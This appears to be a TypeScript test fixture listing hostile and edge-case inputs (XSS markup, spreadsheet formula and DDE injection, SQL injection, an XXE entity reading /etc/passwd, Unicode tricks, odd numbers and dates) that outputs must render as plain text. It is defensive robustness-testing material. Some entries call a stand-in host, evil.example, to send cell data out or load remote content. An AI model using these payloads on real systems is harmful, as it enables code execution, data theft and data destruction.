/** Hostile input by family. Every output must contain these texts as plain text. */
export const hostile = {
  /** F1-01 to F1-14. */
  markup: [
    '<img src=x onerror=window.__xss=1>',
    '<script>window.__xss=1</script>',
    '"><svg onload=window.__xss=1>',
    'javascript:window.__xss=1',
    '</text><script>window.__xss=1</script><text>',
    ']]><script>window.__xss=1</script>',
    "{{constructor.constructor('window.__xss=1')()}}",
    '\u0024{window.__xss=1}',
    '<a href="//evil.example/?c=" target=_blank>x</a>',
    '--></title><script>window.__xss=1</script>',
    '</script><script>window.__xss=1</script>',
    "<style>@import'//evil.example/x.css'</style>",
    '&lt;img src=x onerror=window.__xss=1&gt;',
    'x\u2028window.__xss=1\u2029',
  ],
  /** F3: texts that a spreadsheet would run, and a telephone number. */
  formulas: [
    '=1+1',
    '+1+1',
    '-1+1',
    '@SUM(1,1)',
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|'/C calc'!A0",
    '\t=1+1',
    '=IMPORTXML("http://evil.example","//a")',
    '"=1+1',
    ';=1+1',
    '＝1+1',
    '+7 495 123-45-67',
  ],
  /** F6: letters that the fonts of pictures have. */
  letters: [
    'é',
    'e\u0301',
    'A\u200bB',
    '\u202egnp.exe',
    'a\u0001\u000bz',
    '中日（青岛）地方发展合作示范区 神奈川県 徳島 髙﨑 𠮷野',
    'Аоyama',
    'x'.repeat(300),
    '長い'.repeat(150),
  ],
  /** F9: texts that look like PDF or XML syntax. */
  syntax: ['\\) /JS (app.alert(1)) (', '<!ENTITY e SYSTEM "file:///etc/passwd">', '&#65;&e;'],
} as const;

/** All of them, for fields that accept any text. */
export const hostileTexts: readonly string[] = Object.values(hostile).flat();

/** Names in other scripts that the fonts of pictures have. */
export const otherScripts = [
  'Łódź Glass Sp. z o.o., ul. Świętokrzyska',
  'Škoda Auto, Nižný Žďár; Ștefănești; İğdır; Hőgyész',
  'Ελληνική Υαλουργία ΑΕ, Πειραιάς ώ ΐ',
  'Ђурђевић, Київ ґ є ї, Ҡазан Әуез',
  'Công ty Kính Đường Nguyễn Huệ ở Huế',
  '한국유리공업 주식회사 서울',
  // decomposed, as some systems write names
  'Łódź 한글 Nguyễn'.normalize('NFD'),
] as const;

/**
 * Text that no font of pictures has, the characters that the response names, the drawn text, and a
 * language.
 */
export const undrawn = [
  ['👨‍👩‍👧‍👦', 'U+1F466 U+1F467 U+1F468 U+1F469', '□□□□', 'zh-CN'],
  ['شركة 12', 'U+0629 U+0631 U+0634 U+0643', '□□□□ 12', 'ja'],
  ['\u{13000}', 'U+13000', '□', 'en'],
  ['A+แก้ว', 'U+0E01 U+0E27 U+0E41 U+0E49', 'A+□□□', 'en'],
  ['देवी', 'U+0926 U+0935 U+0940 U+0947', '□□', 'zh-CN'],
  ['A\u{1ffff}Z', 'U+1FFFF', 'A□Z', 'ja'],
] as const;

/**
 * Further families for free-text fields: numbers (F4), days (F5), queries (F1) and letters without
 * glyphs (F6).
 */
export const forFields = {
  numbers: [
    '9007199254740993',
    '1e309',
    'NaN',
    'Infinity',
    '-Infinity',
    '-0',
    '-0.00',
    '1,234.56',
    '1 234,56',
    '1.234,56',
    '1\u00a0234,56',
    '1\u202f234,56',
    '٣٫٥',
    '(1,000)',
    '12%',
    '0.12',
    '1e5',
    '0x1F',
    '+5',
    '５.９',
    '999999999999999.99',
    '99999999999999999999999999999999999999.9999999999',
    `1${'0'.repeat(400)}`,
    '1亿',
    '5-10',
  ],
  days: [
    '2024-02-29',
    '2023-02-29',
    '31.12.2026',
    '12/31/2026',
    '01/02/2026',
    '45000',
    '60',
    '2026-03-01',
    '2026-03-29T02:30',
    '2026-10-25T02:30',
    '0001-01-01',
    '9999-12-31',
    '10000-01-01',
    '-0001-01-01',
    '2026-W53',
    'Q3 2026',
    '2026',
    '2026-13',
    '1767225600',
    '1767225600000',
    '2026-01-01T00:00:00+05:30',
    '2026-01-01T00:00:00Z',
    '2026-01-01T00:00:00',
    '2016-12-31T23:59:60Z',
    '令和3年4月16日',
    '二〇二一年四月十六日',
  ],
  queries: [
    "' OR '1'='1",
    "'; DROP TABLE projects;--",
    '1); SELECT pg_sleep(5);--',
    '%',
    '_',
    '\\%',
    '$1 ? :name \u0024{x}',
  ],
  letters: ['I ı İ i', '\ufeffx', '\u2028\u2029', '\u0000', 'ﷺ'.repeat(50), 'a\u0300'.repeat(200)],
} as const;

/** Longer than any field accepts. */
export const endless = '長い名前'.repeat(2500);
